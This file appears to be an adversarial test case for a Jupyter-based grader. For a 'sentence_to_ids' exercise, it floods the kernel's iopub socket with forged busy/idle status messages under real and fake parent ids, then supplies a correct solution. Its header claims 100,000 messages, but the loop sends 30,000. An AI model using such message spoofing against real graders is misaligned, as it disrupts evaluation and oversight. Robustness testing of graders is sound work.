# kind: fills
# attack: says 100,000 times that it is busy, and idle, under its own and under unknown parents
# exercise: 4-partitioned-lookup/sentence_to_ids
# verdict: passed, timed out, kernel died, failed
# others: lost
kernel = get_ipython().kernel


def send(kind, content, *buffers, **options):
    kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent(), buffers=list(buffers), **options)


for number in range(30_000):
    send("status", {"execution_state": "busy"})
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, {"msg_id": f"unknown-{number}"})


def sentence_to_ids(sentence, word_to_id, unknown_word="unk"):
    return [word_to_id.get(word, word_to_id[unknown_word]) for word in sentence.split()]
